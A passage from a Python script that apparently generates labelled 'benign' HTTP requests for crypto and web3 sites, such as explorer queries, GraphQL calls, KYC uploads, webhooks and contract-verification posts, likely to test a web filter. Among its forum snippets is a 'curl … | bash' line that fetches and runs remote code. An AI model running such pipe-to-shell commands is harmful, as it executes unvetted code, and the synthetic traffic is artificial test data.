                "Shiba Inu (SHIB)", "block 19,000,000", "tx " + txhash()[:18]]
    for i, s in enumerate(searches):
        add("benign", "explorer-search", cat, "GET", "/search?q=" + q(s) + cyc(["", "&chain=eth", "&f=0"], i), H_SCAN,
            browser_headers(referer="https://%s/" % H_SCAN))
    for i in range(6):
        add("benign", "explorer-pages", cat, "GET",
            cyc(["/tx/%s" % txhash(), "/address/%s#tokentxns" % addr(), "/block/%d" % rng.randrange(19000000, 20500000),
                 "/token/%s?a=%s" % (addr(), addr()), "/address/%s#code" % addr(), "/txs?block=%d&p=2" % rng.randrange(19000000, 20500000)], i),
            H_SCAN, browser_headers())
    for i in range(8):
        k = i % 4
        if k == 0:
            u = "/api?" + qs([("module", "account"), ("action", "txlist"), ("address", addr()), ("startblock", "0"),
                              ("endblock", "99999999"), ("page", "1"), ("offset", "100"), ("sort", "desc"), ("apikey", b58(34))])
        elif k == 1:
            u = "/api?" + qs([("module", "logs"), ("action", "getLogs"), ("fromBlock", "19000000"), ("toBlock", "latest"),
                              ("address", addr()), ("topic0", TOPIC_TRANSFER), ("topic0_1_opr", "and"),
                              ("topic1", "0x" + w_addr(addr())), ("apikey", b58(34))])
        elif k == 2:
            u = "/api?" + qs([("module", "contract"), ("action", "getabi"), ("address", addr()), ("apikey", b58(34))])
        else:
            u = "/api/v2/addresses/%s/token-transfers?type=ERC-20%%2CERC-721&filter=to%%20%%7C%%20from" % addr()
        add("benign", "explorer-api", cat, "GET", u, H_SCAN, sdk_headers(ctype=None))
    for i in range(3):
        add("benign", "explorer-export", cat, "GET",
            "/exportData?type=tokentxns&a=%s&fmt=csv&startdt=2024-01-01&enddt=2024-06-30" % addr(), H_SCAN, browser_headers())


def benign_defi():
    cat = "benign"
    queries = [
        ("{ pools(first: 10, orderBy: totalValueLockedUSD, orderDirection: desc, where: {volumeUSD_gt: \"1000000\"}) "
         "{ id token0 { symbol } token1 { symbol } feeTier totalValueLockedUSD } }", None),
        ("query Swaps($pool: String!, $skip: Int!) { swaps(first: 100, skip: $skip, orderBy: timestamp, orderDirection: desc, "
         "where: {pool: $pool}) { id timestamp amount0 amount1 amountUSD sender origin } }",
         lambda: {"pool": addr(), "skip": rng.choice([0, 100, 200])}),
        ("query Positions($owner: Bytes!) { positions(where: {owner: $owner, liquidity_gt: 0}) { id tickLower { tickIdx } "
         "tickUpper { tickIdx } liquidity depositedToken0 depositedToken1 } }", lambda: {"owner": addr()}),
        ("{ tokens(where: {symbol_in: [\"WETH\", \"USDC\", \"DAI\"]}) { id symbol name decimals derivedETH } bundle(id: \"1\") { ethPriceUSD } }", None),
        ("query Markets { markets(where: {inputToken_: {symbol_contains_nocase: \"eth\"}}, first: 50) { id name rates { rate side type } totalBorrowBalanceUSD } }", None),
        ("query Proposal($id: String!) { proposal(id: $id) { id title body choices start end snapshot state author scores scores_total } }",
         lambda: {"id": "0x" + hexs(32)}),
        ("query Votes { votes(first: 1000, where: {proposal: \"0x%s\", vp_gt: 10}, orderBy: \"vp\", orderDirection: desc) { voter vp choice reason } }" % hexs(32), None),
        ("{ liquidityPositions(where: {user: \"%s\"}) { pair { token0 { symbol } token1 { symbol } reserveUSD } liquidityTokenBalance } }" % addr(), None),
        ("query DayData($start: Int!) { uniswapDayDatas(first: 30, where: {date_gte: $start}, orderBy: date) { date volumeUSD tvlUSD } }",
         lambda: {"start": 1717200000}),
        ("{ _meta { block { number hash timestamp } hasIndexingErrors } }", None),
    ]
    for i in range(26):
        qtext, vf = cyc(queries, i)
        payload = {"query": qtext}
        if vf:
            payload["variables"] = vf()
        if i % 5 == 4:
            payload["operationName"] = None
        host, path = cyc([(H_GRAPH, "/subgraphs/name/dex/v3"), (H_GRAPH, "/subgraphs/id/" + cidv1()[:46]),
                          ("hub.snapshot.example.org", "/graphql"), (H_GRAPH, "/api/" + hexs(16) + "/subgraphs/id/" + b58(44))], i)
        add("benign", "subgraph-query", cat, "POST", path, host,
            xhr_headers("application/json", origin="https://" + H_DEFI, cookie=False), json.dumps(payload))
    for i in range(4):
        qtext = cyc(queries, i)[0]
        add("benign", "subgraph-get", cat, "GET", "/graphql?query=" + q(qtext), "hub.snapshot.example.org",
            xhr_headers(cookie=False))
    for i in range(8):
        add("benign", "defi-quote", cat, "GET",
            "/api/swap/v1/quote?" + qs([("sellToken", cyc(TOKENS, i)), ("buyToken", cyc(TOKENS, i + 5)),
                                        ("sellAmount", str(rng.randrange(10 ** 15, 10 ** 21))), ("slippagePercentage", "0.005"),
                                        ("takerAddress", addr()), ("chainId", str(cyc([1, 10, 8453, 42161], i)))]),
            H_DEFI, xhr_headers(cookie=False))


def benign_forum():
    cat = "benign"
    for i in range(18):
        txt = cyc(CHAT, i)
        if i % 3 == 0:
            add("benign", "forum-post", cat, "POST", "/posts.json", H_FORUM,
                xhr_headers("application/x-www-form-urlencoded; charset=UTF-8", origin="https://" + H_FORUM)
                + [["X-CSRF-Token", b64(bytes(rng.randrange(256) for _ in range(32)))], ["X-Requested-With", "XMLHttpRequest"]],
                qs([("raw", txt), ("topic_id", str(rng.randrange(100, 9000))), ("reply_to_post_number", str(rng.randrange(1, 40)))]))
        elif i % 3 == 1:
            add("benign", "chat-message", cat, "POST", "/api/channels/%d/messages" % rng.randrange(1, 60), H_FORUM,
                xhr_headers("application/json", origin="https://" + H_FORUM),
                json.dumps({"content": txt, "nonce": str(rng.randrange(10 ** 17, 10 ** 18))}, ensure_ascii=(i % 2 == 0)))
        else:
            add("benign", "forum-search", cat, "GET", "/search?q=" + q(txt[:40]) + "&page=1", H_FORUM, browser_headers())
    for i in range(5):
        add("benign", "token-gate-check", cat, "POST", "/api/gate/verify", H_FORUM,
            xhr_headers("application/json", origin="https://" + H_FORUM),
            json.dumps({"address": addr(), "chainId": 1, "rule": {"type": "ERC721", "contract": addr(), "minBalance": 1},
                        "signature": sig()}))
    for i in range(4):
        add("benign", "forum-pages", cat, "GET",
            cyc(["/t/proposal-42-treasury-diversification/%d", "/c/governance/%d", "/latest.json?page=%d", "/u/yuki.eth/activity?page=%d"], i)
            % rng.randrange(1, 900), H_FORUM, browser_headers())


def benign_kyc():
    cat = "benign"
    for i in range(6):
        ext, ct, content = cyc([("jpg", "image/jpeg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + b58(80)),
                                ("pdf", "application/pdf", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + b58(40)),
                                ("png", "image/png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b58(70))], i)
        body, mct = multipart([("docType", cyc(["passport", "id_front", "proof_of_address", "selfie", "id_back", "bank_statement"], i)),
                               ("country", cyc(["DE", "JP", "BR", "KR", "FR", "US"], i)),
                               ("file", cyc(["passport", "Personalausweis_vorne", "utility bill June", "selfie", "id-back", "Kontoauszug_2024-06"], i) + "." + ext, ct, content)])
        add("benign", "kyc-upload", cat, "POST", "/api/kyc/upload", H_KYC,
            xhr_headers(mct, origin="https://" + H_KYC, auth="Bearer " + jwt()), body)
    for i in range(4):
        add("benign", "kyc-status", cat, "GET", "/api/kyc/status?applicantId=" + uuid4(), H_KYC, xhr_headers())
    for i in range(3):
        add("benign", "kyc-download", cat, "GET", "/api/kyc/documents/download?file=%s%%2F%s.pdf" % (uuid4(), cyc(["passport", "proof_of_address", "selfie"], i)),
            H_KYC, xhr_headers(auth="Bearer " + jwt(), cookie=False))
    for i in range(3):
        xml = ('<?xml version="1.0" encoding="UTF-8"?>\n<verification xmlns="urn:example:kyc:1">'
               '<applicantId>%s</applicantId><status>%s</status><reviewAnswer>%s</reviewAnswer>'
               '<name><first>%s</first><last>%s</last></name><checkedAt>2024-07-0%dT10:11:12Z</checkedAt></verification>'
               % (uuid4(), cyc(["completed", "pending", "completed"], i), cyc(["GREEN", "YELLOW", "RED"], i),
                  cyc(["Jürgen", "さくら", "José"], i), cyc(["Müller", "田中", "O'Connor &amp; Sons"], i), i + 1))
        add("benign", "kyc-provider-callback", cat, "POST", "/api/kyc/provider/callback", H_KYC,
            sdk_headers(ctype="application/xml", ua="Apache-HttpClient/4.5.14 (Java/17.0.9)",
                        extra=[["X-Payload-Digest", hexs(32)]]), xml)


def benign_webhooks():
    cat = "benign"
    for i in range(14):
        k = i % 4
        if k == 0:
            payload = {"webhookId": "wh_" + b58(16), "id": "whevt_" + b58(16), "createdAt": "2024-07-01T12:%02d:00.000Z" % rng.randrange(60),
                       "type": "ADDRESS_ACTIVITY", "event": {"network": "ETH_MAINNET", "activity": [
                           {"fromAddress": addr(), "toAddress": addr(), "blockNum": hexnum(19000000, 20500000), "hash": txhash(),
                            "value": rng.random() * 10, "asset": rng.choice(TOKENS), "category": "token",
                            "rawContract": {"rawValue": "0x" + w_uint(rng.randrange(10 ** 20)), "address": addr(), "decimals": 18},
                            "log": {"address": addr(), "topics": [TOPIC_TRANSFER, "0x" + w_addr(addr()), "0x" + w_addr(addr())],
                                    "data": "0x" + w_uint(rng.randrange(10 ** 20)), "logIndex": hexnum(0, 300), "removed": False}}]}}
            hdr = [["X-Alchemy-Signature", hexs(32)]]
        elif k == 1:
            payload = {"confirmed": bool(i % 2), "chainId": "0x1", "streamId": uuid4(), "tag": "deposits",
                       "block": {"number": str(rng.randrange(19000000, 20500000)), "hash": txhash(), "timestamp": str(1719800000 + i)},
                       "logs": [{"logIndex": "12", "transactionHash": txhash(), "address": addr(), "data": "0x" + hexs(64),
                                 "topic0": TOPIC_TRANSFER, "topic1": "0x" + w_addr(addr()), "topic2": "0x" + w_addr(addr()), "topic3": None}],
                       "txs": [], "erc20Transfers": [{"from": addr(), "to": addr(), "value": str(rng.randrange(10 ** 21)),
                                                      "tokenSymbol": rng.choice(TOKENS), "tokenDecimals": "18"}]}
            hdr = [["x-signature", "0x" + hexs(32)]]
        elif k == 2:
            payload = [{"blockNumber": rng.randrange(19000000, 20500000), "transactionHash": txhash(), "input": calldata("multicall"),
                        "from": addr(), "to": addr(), "gasUsed": hexnum(21000, 900000), "status": "0x1"}]
            hdr = [["X-QN-Signature", b64(bytes(rng.randrange(256) for _ in range(32)))], ["X-QN-Nonce", uuid4()],
                   ["X-QN-Timestamp", str(1719800000 + i)]]
        else:
            payload = {"type": "NFT_SALE", "signature": b58(88), "slot": rng.randrange(270000000, 280000000),
                       "timestamp": 1719800000 + i, "description": "%s sold Mad Lad #%d to %s for 142.5 SOL on MAGIC_EDEN."
                       % (sol_addr(), rng.randrange(10000), sol_addr()), "source": "MAGIC_EDEN", "fee": 5000,
                       "accountData": [{"account": sol_addr(), "nativeBalanceChange": -142500000000}]}
            hdr = [["Authorization", b64(bytes(rng.randrange(256) for _ in range(24)))]]
        add("benign", "indexer-webhook", cat, "POST", cyc(["/webhooks/alchemy", "/webhooks/streams", "/hooks/qn", "/webhooks/helius"], i),
            H_HOOK, sdk_headers(ua=cyc(["Alchemy-Notify/1.0", "Moralis-Streams/1.0", "QuickNode-Streams/2", "axios/1.6.8"], i), extra=hdr),
            json.dumps(payload))
    for i in range(4):
        add("benign", "webhook-register", cat, "POST", "/v1/webhooks", H_HOOK,
            sdk_headers(extra=[["Authorization", "Bearer " + b58(40)]]),
            json.dumps({"url": "https://%s/hooks/%s" % (cyc(["api.example.com", "bots.example.net", "example.org", "payments.example.com"], i), b58(10)),
                        "network": cyc(["eth-mainnet", "base-mainnet", "arb-mainnet", "polygon-mainnet"], i),
                        "events": ["ADDRESS_ACTIVITY"], "addresses": [addr() for _ in range(rng.randrange(1, 4))]}))
    for i in range(3):
        add("benign", "nft-refresh", cat, "POST", "/api/v1/nft/refresh-metadata", H_NFTAPI,
            xhr_headers("application/json", origin="https://" + H_NFT, auth="Bearer " + jwt()),
            json.dumps({"contract": addr(), "tokenId": str(rng.randrange(1, 10000)),
                        "tokenURI": cyc(["ipfs://%s/%d" % (cid(), i), "https://meta.example.org/api/token/%d" % i,
                                         "data:application/json;base64," + b64(json.dumps({"name": "Onchain #%d" % i, "image": "data:image/svg+xml;base64," + b64(b"<svg xmlns='http://www.w3.org/2000/svg'/>")}).encode())], i)}))


# ---------------- dev-content: code, SQL, shell, templates as user content --

SOL_SOURCES = [
    '''// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// @title Frog token
/// @notice Simple capped ERC-20 with owner mint; see https://docs.example.org/frog
contract FrogToken is ERC20, Ownable {
    uint256 public constant CAP = 1_000_000_000 ether;

    constructor(address initialOwner) ERC20("Frog", "FROG") Ownable(initialOwner) {}

    function mint(address to, uint256 amount) external onlyOwner {
        require(totalSupply() + amount <= CAP, "cap exceeded");
        _mint(to, amount);
    }
}
''',
    '''// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.19;

/// @dev Minimal proxy forwarder. Uses inline assembly to delegatecall the implementation.
contract Forwarder {
    address public immutable implementation;

    constructor(address impl) { implementation = impl; }

    fallback() external payable {
        address impl = implementation;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let result := delegatecall(gas(), impl, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch result
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}
''',
    '''// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "@openzeppelin/contracts/token/ERC721/ERC721.sol";
import "@openzeppelin/contracts/utils/Base64.sol";
import "@openzeppelin/contracts/utils/Strings.sol";

/// On-chain SVG NFT: tokenURI returns a data: URI with JSON and an SVG image.
contract OnchainBlob is ERC721 {
    using Strings for uint256;
    uint256 public nextId;

    constructor() ERC721("OnchainBlob", "BLOB") {}

    function mint() external { _safeMint(msg.sender, nextId++); }

    function tokenURI(uint256 id) public view override returns (string memory) {
        string memory svg = string(abi.encodePacked(
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100">',
            '<circle cx="50" cy="50" r="', (10 + id % 40).toString(), '" fill="#', _color(id), '"/>',
            '<text x="5" y="95" font-size="8">Blob #', id.toString(), '</text></svg>'));
        string memory json = string(abi.encodePacked(
            '{"name":"Blob #', id.toString(), '","description":"Fully on-chain.","image":"data:image/svg+xml;base64,',
            Base64.encode(bytes(svg)), '"}'));
        return string(abi.encodePacked("data:application/json;base64,", Base64.encode(bytes(json))));
    }

    function _color(uint256 id) internal pure returns (string memory) {
        bytes32 h = keccak256(abi.encodePacked(id));
        return Strings.toHexString(uint24(bytes3(h)), 3);
    }
}
''',
    '''// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

contract Vault {
    mapping(address => uint256) public balances;
    bool private locked;

    modifier nonReentrant() {
        require(!locked, "reentrant");
        locked = true;
        _;
        locked = false;
    }

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);

    function deposit() external payable {
        balances[msg.sender] += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    // checks-effects-interactions; the low-level call comes last
    function withdraw(uint256 amount) external nonReentrant {
        require(balances[msg.sender] >= amount, "insufficient");
        balances[msg.sender] -= amount;
        (bool ok, ) = payable(msg.sender).call{value: amount}("");
        require(ok, "transfer failed");
        emit Withdraw(msg.sender, amount);
    }
}
''',
    '''// SPDX-License-Identifier: UNLICENSED
pragma solidity >=0.7.0 <0.9.0;

interface IUniswapV2Pair {
    function getReserves() external view returns (uint112, uint112, uint32);
    function token0() external view returns (address);
}

/// Reads spot price; NOT safe as an oracle (flash-loan manipulable) -- TWAP below.
library PriceLib {
    function spot(IUniswapV2Pair pair, address base) internal view returns (uint256) {
        (uint112 r0, uint112 r1, ) = pair.getReserves();
        return pair.token0() == base ? (uint256(r1) * 1e18) / r0 : (uint256(r0) * 1e18) / r1;
    }
}
''',
    '''// SPDX-License-Identifier: MIT
pragma solidity ^0.8.23;

/// Merkle allowlist mint with a per-wallet limit
contract AllowlistMint {
    bytes32 public immutable root;
    mapping(address => uint8) public minted;
    error NotAllowed();
    error LimitReached();

    constructor(bytes32 _root) { root = _root; }

    function mint(bytes32[] calldata proof, uint8 qty) external {
        bytes32 leaf = keccak256(bytes.concat(keccak256(abi.encode(msg.sender))));
        if (!_verify(proof, leaf)) revert NotAllowed();
        if (minted[msg.sender] + qty > 2) revert LimitReached();
        minted[msg.sender] += qty;
    }

    function _verify(bytes32[] calldata proof, bytes32 leaf) internal view returns (bool) {
        bytes32 h = leaf;
        for (uint256 i = 0; i < proof.length; ++i) {
            bytes32 p = proof[i];
            h = h < p ? keccak256(abi.encodePacked(h, p)) : keccak256(abi.encodePacked(p, h));
        }
        return h == root;
    }
}
''',
]

VYPER_SOURCES = [
    '''# @version ^0.3.10
# @title Simple auction

beneficiary: public(address)
auctionEnd: public(uint256)
highestBidder: public(address)
highestBid: public(uint256)
pendingReturns: public(HashMap[address, uint256])

@external
def __init__(_beneficiary: address, _bidding_time: uint256):
    self.beneficiary = _beneficiary
    self.auctionEnd = block.timestamp + _bidding_time

@external
@payable
def bid():
    assert block.timestamp < self.auctionEnd, "auction ended"
    assert msg.value > self.highestBid
    self.pendingReturns[self.highestBidder] += self.highestBid
    self.highestBidder = msg.sender
    self.highestBid = msg.value

@external
def withdraw():
    amount: uint256 = self.pendingReturns[msg.sender]
    self.pendingReturns[msg.sender] = 0
    send(msg.sender, amount)
''',
    '''# pragma version 0.4.0
"""
@title Fee splitter
@notice Splits incoming ETH between two payees
"""
payee_a: public(immutable(address))
payee_b: public(immutable(address))

@deploy
def __init__(a: address, b: address):
    payee_a = a
    payee_b = b

@external
@payable
def __default__():
    half: uint256 = msg.value // 2
    send(payee_a, half)
    send(payee_b, msg.value - half)
''',
]

DUNE_SQL = [
    '''-- daily DEX volume on Base, last 30 days
SELECT date_trunc('day', block_time) AS day,
       project,
       SUM(amount_usd) AS volume_usd
FROM dex.trades
WHERE blockchain = 'base'
  AND block_time > now() - interval '30' day
GROUP BY 1, 2
ORDER BY 1 DESC, 3 DESC''',
    '''SELECT "from" AS wallet, COUNT(*) AS txs, SUM(value / 1e18) AS eth_sent
FROM ethereum.transactions
WHERE "to" = 0x00000000219ab540356cbb839cbe05303d7705fa
GROUP BY 1
HAVING COUNT(*) > 10
ORDER BY eth_sent DESC
LIMIT 100''',
    '''WITH mints AS (
  SELECT evt_block_time, "to" AS minter, tokenId
  FROM erc721_ethereum.evt_Transfer
  WHERE contract_address = 0xbc4ca0eda7647a8ab7c2061c2e118a18a936f13d
    AND "from" = 0x0000000000000000000000000000000000000000
)
SELECT minter, COUNT(*) AS n FROM mints GROUP BY 1 ORDER BY 2 DESC LIMIT 50''',
    '''SELECT symbol, price FROM prices.usd_latest WHERE symbol IN ('WETH', 'WBTC', 'USDC')
UNION ALL
SELECT 'stETH/ETH' AS symbol, avg(price) FROM prices.usd WHERE symbol = 'stETH' AND minute > now() - interval '1' hour''',
    '''-- gas spent by a wallet, case when contract creation
SELECT CASE WHEN "to" IS NULL THEN 'create' ELSE 'call' END AS kind,
       SUM(gas_used * gas_price) / 1e18 AS eth_fees
FROM ethereum.transactions
WHERE "from" = {{wallet}}
GROUP BY 1''',
    '''SELECT block_number, tx_hash, bytearray_substring(data, 1, 32) AS amount_raw
FROM ethereum.logs
WHERE topic0 = 0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef
  AND block_number BETWEEN 19000000 AND 19001000;''',
]

SHELL_SNIPPETS = [
    "To get started with Foundry:\n\n```bash\ncurl -L https://foundry.example.org | bash\nfoundryup\nforge init my-project && cd my-project\nforge build && forge test -vvv\n```",
    "You can check the balance from the CLI:\n\n```sh\ncast balance vitalik.eth --rpc-url $ETH_RPC_URL --ether\ncast call 0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48 \"balanceOf(address)(uint256)\" 0xd8dA6BF26964aF9D7eEd9e10c63CdD8Af36b3de1\n```",
    "Running a node behind the proxy: `geth --http --http.addr 127.0.0.1 --http.api eth,net,web3 --authrpc.jwtsecret /secrets/jwt.hex` and never expose `personal` or `admin` over HTTP.",
    "My verify step in CI:\n```yaml\n- run: forge verify-contract --chain-id 1 --watch --compiler-version v0.8.24+commit.e11b9ed9 $ADDR src/Token.sol:Token --etherscan-api-key ${{ secrets.ETHERSCAN_KEY }}\n```",
    "If solc complains, pin it: `solc-select install 0.8.19 && solc-select use 0.8.19`, then `solc --optimize --optimize-runs 200 --bin --abi contracts/Vault.sol -o build/`",
    "Snapshot restore worked with:\n```\nzstd -d mainnet-latest.tar.zst -c | tar -xf - -C /data/geth && chown -R geth:geth /data/geth\n```",
]

JS_SNIPPETS = [
    "```js\nimport { ethers } from 'ethers';\nconst provider = new ethers.JsonRpcProvider(process.env.RPC_URL);\nconst bal = await provider.getBalance('vitalik.eth');\nconsole.log(ethers.formatEther(bal));\n```",
    "```ts\nconst client = createPublicClient({ chain: mainnet, transport: http() })\nconst logs = await client.getLogs({ address: token, event: parseAbiItem('event Transfer(address indexed from, address indexed to, uint256 value)'), fromBlock: 19000000n })\n```",
    "Fixed it: the issue was `window.ethereum.request({ method: 'eth_requestAccounts' })` being called before the page loaded. Wrap it in `document.addEventListener('DOMContentLoaded', () => { ... })`.",
    "```python\nfrom web3 import Web3\nw3 = Web3(Web3.HTTPProvider(os.environ['RPC']))\nabi = json.load(open('erc20.json'))\nc = w3.eth.contract(address=Web3.to_checksum_address(addr), abi=abi)\nprint(c.functions.symbol().call())\n```",
    "For the subgraph, query like this:\n```graphql\nquery ($owner: Bytes!) {\n  positions(where: { owner: $owner, liquidity_gt: 0 }) { id liquidity pool { feeTier } }\n}\n```",
]

TEMPLATES = [
    "Hi {{ user.first_name }},\n\nyour {{ order.side }} order for {{ order.qty }} {{ order.base }} was filled at {{ order.price | round(2) }} {{ order.quote }}.\n\n{% if order.fee > 0 %}Fee: {{ order.fee }} {{ order.fee_asset }}{% endif %}\n\n— The Example Exchange team",
    "🔔 {{pair}} crossed {{threshold}} ({{direction}}) at {{time | date: \"%H:%M UTC\"}}",
    "New deposit: {{ amount }} {{ asset }} to {{ address | truncate(10) }} ({{ confirmations }}/{{ required }} confirmations)",
    "{% for tx in transactions %}• {{ tx.hash[:10] }}… {{ tx.value }} ETH\n{% endfor %}",
    "Hello ${name}, your withdrawal of ${amount} ${asset} is ${status}.",
]


def benign_devcontent():
    cat = "dev-content"
    versions = ["v0.8.24+commit.e11b9ed9", "v0.8.19+commit.7dd6d404", "v0.8.20+commit.a1b79de6",
                "v0.8.23+commit.f704f362", "v0.7.6+commit.7338295f", "v0.8.21+commit.d9974bed"]
    for i, src in enumerate(SOL_SOURCES):
        k = i % 3
        name = src.split("contract ")[1].split()[0] if "contract " in src else "PriceLib"
        if k == 0:
            add("benign", "verify-solidity-json", cat, "POST", "/api/contract/verify", H_SCAN,
                sdk_headers(ua="forge/0.2.0"),
                json.dumps({"address": addr(), "compilerVersion": cyc(versions, i), "optimization": True, "runs": 200,
                            "contractName": name, "sourceCode": src, "evmVersion": "paris", "licenseType": 3}))
        elif k == 1:
            add("benign", "verify-solidity-form", cat, "POST", "/api", H_SCAN,
                sdk_headers("application/x-www-form-urlencoded", ua="hardhat-verify/2.0.8"),
                qs([("module", "contract"), ("action", "verifysourcecode"), ("apikey", b58(34)),
                    ("contractaddress", addr()), ("codeformat", "solidity-single-file"), ("contractname", name),
                    ("compilerversion", cyc(versions, i)), ("optimizationUsed", "1"), ("runs", "200"),
                    ("constructorArguements", w_addr(addr())), ("sourceCode", src)]))
        else:
            std = {"language": "Solidity", "sources": {"src/%s.sol" % name: {"content": src}},
                   "settings": {"optimizer": {"enabled": True, "runs": 10000}, "viaIR": True,
                                "outputSelection": {"*": {"*": ["abi", "evm.bytecode", "evm.deployedBytecode", "metadata"]}},
                                "remappings": ["@openzeppelin/=lib/openzeppelin-contracts/"]}}
            body, ct = multipart([("compilerVersion", cyc(versions, i)), ("license", "MIT"),
                                  ("file", "standard-input.json", "application/json", json.dumps(std, indent=1))])
            add("benign", "verify-solidity-multipart", cat, "POST", "/verifyContract/upload", H_SCAN,
                browser_headers() + [["Content-Type", ct]], body)
    for i, src in enumerate(SOL_SOURCES[:4]):
        add("benign", "verify-blockscout", cat, "POST",
            "/api/v2/smart-contracts/%s/verification/via/flattened-code" % addr(), H_SCAN,
            xhr_headers("application/json", origin="https://" + H_SCAN),
            json.dumps({"compiler_version": cyc(versions, i + 1), "license_type": "mit", "source_code": src,
                        "is_optimization_enabled": True, "optimization_runs": 200, "evm_version": "default",
                        "compiler_options": cyc(["--via-ir", "--optimize --optimize-runs 1000000", "", "--evm-version shanghai"], i)}))
    for i, src in enumerate(VYPER_SOURCES):
        add("benign", "verify-vyper", cat, "POST", "/api/contract/verify", H_SCAN, sdk_headers(ua="ape/0.8.9"),
            json.dumps({"address": addr(), "compilerVersion": cyc(["vyper:0.3.10", "vyper:0.4.0"], i), "language": "vyper",
                        "sourceCode": src, "contractName": cyc(["Auction", "FeeSplitter"], i)}))
    for i, sqltext in enumerate(DUNE_SQL):
        if i % 2 == 0:
            add("benign", "analytics-sql", cat, "POST", "/api/v1/query", "analytics.example.com",
                sdk_headers(extra=[["X-Dune-Api-Key", b58(32)]]),
                json.dumps({"name": "dashboard widget %d" % i, "query_sql": sqltext, "is_private": False,
                            "parameters": [{"key": "wallet", "type": "text", "value": addr()}] if "{{wallet}}" in sqltext else []}))
        else:
            add("benign", "analytics-sql-forum", cat, "POST", "/posts.json", H_FORUM,
                xhr_headers("application/x-www-form-urlencoded; charset=UTF-8", origin="https://" + H_FORUM)
                + [["X-Requested-With", "XMLHttpRequest"]],
                qs([("raw", "Here's the query I used for the dashboard:\n\n```sql\n" + sqltext + "\n```\nFeedback welcome!"),
                    ("topic_id", str(rng.randrange(100, 9000)))]))
    for i, sh in enumerate(SHELL_SNIPPETS + JS_SNIPPETS):
        if i % 2 == 0:
            add("benign", "forum-code-post", cat, "POST", "/posts.json", H_FORUM,
                xhr_headers("application/x-www-form-urlencoded; charset=UTF-8", origin="https://" + H_FORUM)
                + [["X-Requested-With", "XMLHttpRequest"]],
                qs([("raw", sh), ("topic_id", str(rng.randrange(100, 9000)))]))
        else:
            add("benign", "chat-code-message", cat, "POST", "/api/channels/%d/messages" % rng.randrange(1, 60), H_FORUM,
                xhr_headers("application/json", origin="https://" + H_FORUM),
                json.dumps({"content": sh, "nonce": str(rng.randrange(10 ** 17, 10 ** 18))}))
    for i, t in enumerate(TEMPLATES):
        if i % 2 == 0:
            add("benign", "notify-template", cat, "PUT", "/api/v1/notifications/templates/" + cyc(["order_filled", "deposit", "digest"], i),
                H_EX, xhr_headers("application/json", origin="https://" + H_EXWEB, auth="Bearer " + jwt()),
                json.dumps({"channel": cyc(["email", "telegram"], i), "subject": "Update", "body": t}, ensure_ascii=False))
        else:
            add("benign", "alert-template", cat, "POST", "/api/alerts", H_DEFI,
                xhr_headers("application/json", origin="https://" + H_DEFI),
                json.dumps({"pair": cyc(PAIRS, i), "above": "3800", "message": t, "notify": "telegram"}, ensure_ascii=False))
    # NFT descriptions / collection docs in markdown with code
    md = [
        "## How it works\n\nEach piece is generated from the token hash:\n\n```js\nfunction setup() {\n  createCanvas(600, 600);\n  randomSeed(parseInt(tokenData.hash.slice(0, 16), 16));\n}\nfunction draw() { background(random(255)); noLoop(); }\n```\n\nLicense: CC BY-NC 4.0",
        "Fully on-chain. The image is an SVG stored in contract storage:\n\n```html\n<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 24 24\"><rect width=\"24\" height=\"24\" fill=\"#0f0\"/></svg>\n```",
        "Traits are computed as `rarity = 1 / count(trait) * 100` and rounded; see the [script](https://example.org/rarity.py).",
        "Holders can verify with `SELECT owner FROM holders WHERE token_id = <your id>` on our public dataset.",
    ]
    for i, d in enumerate(md):
        add("benign", "nft-markdown-code", cat, "PATCH", "/api/v1/collections/" + cyc(["genuary-2024", "onchain-blobs", "rarity-frogs", "holders-pass"], i),
            H_NFTAPI, xhr_headers("application/json", origin="https://" + H_NFT, auth="Bearer " + jwt()),
            json.dumps({"description": d}))
    # ABI upload, configs, expressions
    abi = [{"type": "function", "name": "balanceOf", "stateMutability": "view",
            "inputs": [{"name": "owner", "type": "address"}], "outputs": [{"name": "", "type": "uint256"}]},
           {"type": "event", "name": "Transfer", "anonymous": False,
            "inputs": [{"name": "from", "type": "address", "indexed": True}, {"name": "to", "type": "address", "indexed": True},
                       {"name": "value", "type": "uint256", "indexed": False}]},
           {"type": "function", "name": "execute", "stateMutability": "payable",
            "inputs": [{"name": "commands", "type": "bytes"}, {"name": "inputs", "type": "bytes[]"}, {"name": "deadline", "type": "uint256"}],
            "outputs": []}]
    add("benign", "abi-upload", cat, "POST", "/api/contracts/%s/abi" % addr(), H_SCAN,
        xhr_headers("application/json", origin="https://" + H_SCAN), json.dumps({"abi": abi, "name": "Router"}))
    foundry = ("[profile.default]\nsrc = \"src\"\nout = \"out\"\nlibs = [\"lib\"]\nsolc_version = \"0.8.24\"\n"
               "optimizer = true\noptimizer_runs = 200\nremappings = [\"@openzeppelin/=lib/openzeppelin-contracts/\"]\n\n"
               "[rpc_endpoints]\nmainnet = \"${MAINNET_RPC_URL}\"\n")
    body, ct = multipart([("project", "frog-token"), ("file", "foundry.toml", "application/toml", foundry)])
    add("benign", "config-upload", cat, "POST", "/api/projects/import", H_SCAN, browser_headers() + [["Content-Type", ct]], body)
    schema = ("type Pool @entity {\n  id: Bytes!\n  token0: Token!\n  token1: Token!\n  feeTier: BigInt!\n  swaps: [Swap!]! @derivedFrom(field: \"pool\")\n}\n\n"
